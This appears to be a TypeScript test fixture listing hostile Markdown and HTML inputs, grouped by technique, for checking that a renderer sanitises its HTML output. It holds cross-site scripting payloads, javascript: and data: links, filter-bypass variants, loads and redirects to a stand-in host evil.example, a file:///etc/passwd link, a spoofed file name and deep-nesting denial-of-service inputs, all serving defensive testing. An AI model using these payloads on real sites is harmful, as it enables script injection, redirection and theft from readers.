/** Text as somebody could print it on a document to attack the person who opens the HTML file. */
export const hostileMarkdown: Record<string, string> = {
	'script tags': [
		'<script>attacked()</script>',
		'text <script>attacked()</script> text',
		'<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
		'<scr<script>ipt>attacked()</scr</script>ipt>',
		'</main></body></html><script>attacked()</script>',
		'</style><script>attacked()</script>',
		'<!--><script>attacked()</script>-->',
	].join('\n\n'),
	'unclosed tags in raw blocks': [
		'a <script>< img src=x onerror=attacked()>',
		'<pre><img src=x onerror=attacked() //',
		'<kbd> <img src=x onerror="attacked()" ',
		'x <code> & <svg/onload=attacked() ',
	].join('\n\n'),
	'event handlers': [
		'<img src=x onerror=attacked()>',
		'<svg onload=attacked()>',
		'<body onload=attacked()>',
		'<details open ontoggle=attacked()>x</details>',
		'<a href="https://a.example/" onmouseover="attacked()">hover</a>',
		'<br onclick=attacked()>',
		'<table><tr><td onclick="attacked()" style="position:fixed">cell <img src=x onerror=attacked()></td></tr></table>',
	].join('\n\n'),
	'frames, forms and styles': [
		'<iframe src="javascript:attacked()"></iframe>',
		'<object data="data:text/html,<script>attacked()</script>"></object>',
		'<form action="https://evil.example/"><button>OK</button></form>',
		'<meta http-equiv="refresh" content="0;url=https://evil.example/">',
		'<base href="https://evil.example/">',
		'<link rel=stylesheet href=https://evil.example/x.css>',
		'<style>body { background: url(https://evil.example/x.png) }</style>',
	].join('\n\n'),
	links: [
		'[a](javascript:attacked())',
		'[b](JaVaScRiPt:attacked())',
		'[c](java\tscript:attacked())',
		'[d](&#106;avascript:attacked())',
		'[e](data:text/html,<script>attacked()</script>)',
		'[f](vbscript:attacked())',
		'[g](file:///etc/passwd)',
		'<javascript:attacked()>',
		'[h](https://a.example/"onmouseover="attacked())',
		'[i](https://a.example/ "x\\" onmouseover=\\"attacked()")',
		'[j](//evil.example/)',
		'[k](\u0001javascript:attacked())',
		'[![l](x)](javascript:attacked())',
		'[m]: javascript:attacked()\n\n[m]',
	].join('\n\n'),
	images: [
		'![a](javascript:attacked())',
		'![b](https://evil.example/track.png)',
		'![c](x" onerror="attacked())',
		'![" onerror="attacked()](known.png)',
		'![d](data:image/svg+xml,<svg onload=attacked()>)',
	].join('\n\n'),
	mathematics: [
		'$\\href{javascript:attacked()}{x}$',
		'$\\text{<img src=x onerror=attacked()>}$',
		'$$\\includegraphics{https://evil.example/x.png}$$',
		'$\\class{x" onclick="attacked()}{y}$',
		'$\\unicode{<script>attacked()</script>}$',
		'$<img src=x onerror=attacked()>$',
		'$\\def\\a{\\a\\a}\\a$',
	].join('\n\n'),
	'broken tables': [
		'| a | b |\n|---|\n| 1 | 2 | <script>attacked()</script> |',
		'| a |\n|-|-|-|\n| [x](javascript:attacked()) | `</td><script>attacked()</script>` |',
		'|||||\n|-|\n||',
	].join('\n\n'),
	code: [
		'```"><script>attacked()</script>\n</code></pre><script>attacked()</script>\n```',
		'`</code><script>attacked()</script>`',
		'    </pre><script>attacked()</script>',
	].join('\n\n'),
	nesting: `${'> '.repeat(3000)}deep\n\n${'['.repeat(3000)}x${'](y)'.repeat(3000)}\n\n${'- '.repeat(500)}z`,
};

/** What nobody may see as a link or hear from the network. */
export const hostileName =
	'<script>attacked()</script>\u202efdp.exe"><img src=x onerror=attacked()>';
